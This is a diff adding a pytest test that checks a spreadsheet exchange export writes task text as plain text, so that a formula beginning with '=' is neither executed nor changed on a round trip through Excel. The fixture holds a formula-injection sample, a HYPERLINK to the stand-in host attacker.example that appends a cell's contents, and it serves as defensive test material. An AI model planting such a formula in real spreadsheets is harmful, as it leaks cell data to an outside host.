@@ -156,3 +156,30 @@ def test_registry_load_is_idempotent(db):
     second = agency_registry_load(data=data)
     assert first["created"] == 3
     assert second == {"created": 0, "updated": 0}
+
+
+def test_a_formula_typed_in_a_task_round_trips_through_excel_as_text():
+    """Issue 12.2: the exchange workbook writes text as text, so a task whose content starts
+    with "=" is neither run by Excel nor changed on the way back."""
+    import io
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem")'
+    payload = {
+        "format": "langson-directives",
+        "version": 1,
+        "directives": [
+            {
+                "slug": "kh-cong-thuc",
+                "kind": "ke_hoach",
+                "title": "Kế hoạch thử",
+                "tasks": [{"ref": "1", "content": formula, "deadline_kind": "none"}],
+            }
+        ],
+    }
+    data = workbook_from_payload(payload)
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert payload_from_workbook(data)["directives"][0]["tasks"][0]["content"] == formula
